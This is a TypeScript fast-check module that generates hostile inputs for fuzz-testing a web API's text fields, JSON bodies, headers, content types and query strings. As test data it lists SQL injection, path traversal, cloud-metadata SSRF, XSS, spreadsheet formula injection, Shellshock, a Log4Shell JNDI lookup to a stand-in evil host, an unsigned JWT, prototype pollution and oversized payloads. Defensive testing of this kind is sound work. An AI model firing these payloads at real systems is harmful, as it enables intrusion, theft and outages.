import fc from 'fast-check';

/** Values that break things which trust their callers. */

/** Words of JSON that no value of ours can be written as; they go out without their quotes. */
const RAW = /"@raw:([^"]*)"/g;
const rawWords = ['1e400', '-1e400', '1e-400', '-0', '123456789012345678901234567890', '1.0000000000000000001'];

/** JSON as a stranger writes it, with numbers that JavaScript cannot hold. */
export const jsonOf = (value: unknown): string => (JSON.stringify(value) ?? 'null').replace(RAW, '$1');

/** A key that `{}` cannot have; as parsed JSON it can. */
const prototypeKeys = JSON.parse(
  '{"__proto__":{"admin":true},"constructor":{"prototype":{"role":"admin"}},"toString":1}',
);

const nested = (depth: number, make: (inner: unknown) => unknown): unknown => {
  let value: unknown = 1;
  for (let at = 0; at < depth; at += 1) value = make(value);
  return value;
};

export const HOSTILE_TEXTS: readonly string[] = [
  '',
  '   ',
  'null',
  'undefined',
  'NaN',
  'true',
  '-1',
  '0',
  '1e9',
  '0x10',
  '99999999999999999999',
  '1.005',
  'a\0b',
  '\ud800',
  'x\udc00y',
  '\u202egnp.exe',
  '\u200b',
  'ș'.repeat(300),
  'x'.repeat(2000),
  "'; drop table orders; --",
  "' or '1'='1",
  '1) union select null, version() --',
  '$1',
  '%',
  '_',
  '\\',
  '%00',
  '../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'file:///etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '=HYPERLINK("http://evil.example.com")',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '<script>alert(1)</script>',
  '</script><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}',
  '\u0024{7*7}',
  'a\r\nSet-Cookie: evil=1',
  '00000000-0000-0000-0000-000000000000',
  'ffffffff-ffff-ffff-ffff-ffffffffffff',
  '9999-12-31',
  '0000-00-00',
  '2026-02-30',
  '+275760-09-13T00:00:00.001Z',
  '١٢٣',
  '__proto__',
  'constructor',
];

const VALUES: readonly unknown[] = [
  null,
  true,
  -1,
  0,
  0.1 + 0.2,
  1.005,
  2 ** 31,
  2 ** 53,
  -(2 ** 63),
  1e308,
  [],
  {},
  [null],
  [[[[]]]],
  { $gt: '' },
  prototypeKeys,
  'x'.repeat(20_000),
  Array.from({ length: 2000 }, () => 1),
  nested(200, (inner) => [inner]),
  nested(200, (inner) => ({ a: inner })),
  ...rawWords.map((word) => `@raw:${word}`),
];

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_TEXTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileText },
  { weight: 3, arbitrary: fc.constantFrom(...VALUES) },
  { weight: 1, arbitrary: fc.double().map((number) => (Number.isFinite(number) ? number : '@raw:1e400')) },
  { weight: 1, arbitrary: fc.object({ maxDepth: 3, maxKeys: 4 }) },
);

/** Bodies that are no JSON, or more of it than anybody needs. */
export const hostileBody: fc.Arbitrary<string> = fc.constantFrom(
  '{',
  '}',
  '{"a":1',
  '{"a":NaN}',
  "{'a':1}",
  '{"a":1}{"b":2}',
  '\ufeff{}',
  '"\\ud800"',
  '\0',
  'null',
  '[]',
  '0',
  '"text"',
  '['.repeat(100_000),
  '{"a":'.repeat(20_000),
  `{"name":"${'x'.repeat(1_000_000)}"}`,
  `{"name":"${'x'.repeat(1_100_000)}"}`,
  `{${Array.from({ length: 5000 }, (_, at) => `"k${at}":${at}`).join(',')}}`,
  '{"items":[],"items":[{"quantity":1}]}',
);

/** Latin-1 without control signs: what a client can put into a header at all. */
const headerText = fc.constantFrom(
  '',
  'x',
  '"',
  '%',
  '*',
  'Bearer',
  `Bearer ${'a.'.repeat(1500)}`,
  'Bearer eyJhbGciOiJub25lIn0.eyJzaWQiOiIwIn0.',
  'bk_0000000000',
  'W/"1"',
  '"99999999999999999999"',
  '"-1"',
  'barrow-staff=%zz; barrow-cart=%00; barrow-customer=__proto__',
  'x'.repeat(4000),
  '\xff\xfe',
  '() { :; }; echo evil',
  '\u0024{jndi:ldap://evil.example.com/a}',
  'de;q=2, *;q=NaN, xx-evil',
  'gzip;q=99, br;q=-1, identity;q=0',
  'bytes=0-1,2-3,-9999999999',
  '127.0.0.1, 10.0.0.1',
);

export const HOSTILE_HEADERS = [
  'authorization',
  'barrow-cart',
  'barrow-chat',
  'barrow-order-key',
  'idempotency-key',
  'if-match',
  'if-none-match',
  'cookie',
  'accept',
  'accept-language',
  'accept-encoding',
  'content-encoding',
  'range',
  'origin',
  'referer',
  'last-event-id',
  'x-forwarded-for',
  'x-forwarded-host',
  'x-http-method-override',
  'x-middleware-subrequest',
  'next-action',
  'next-router-state-tree',
  'rsc',
] as const;

export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.dictionary(
  fc.constantFrom(...HOSTILE_HEADERS),
  headerText,
  { maxKeys: 2 },
);

export const hostileTypes = fc.constantFrom(
  '',
  'text/plain',
  'text/html',
  'application/xml',
  'application/json;charset=utf-7',
  'application/json; charset="',
  'application/x-www-form-urlencoded',
  'multipart/form-data',
  'multipart/form-data; boundary=',
  `multipart/form-data; boundary=${'x'.repeat(300)}`,
  'application/octet-stream',
  '\xff',
);

/** Behind a question mark: spellings no client of ours would write. */
export const hostileTail = fc.constantFrom(
  '',
  '%FF',
  '%00',
  '%',
  '=',
  '&&&',
  '__proto__[admin]=1',
  'constructor.prototype.role=admin',
  `q=${'x'.repeat(3000)}`,
  'page=1&page=2&page[]=3&page=%FF',
  'page=-1&limit=0',
  'limit=1e9',
  'cursor=eyJhdCI6IngifQ',
  'cursor=%00',
  '_rsc=1',
);
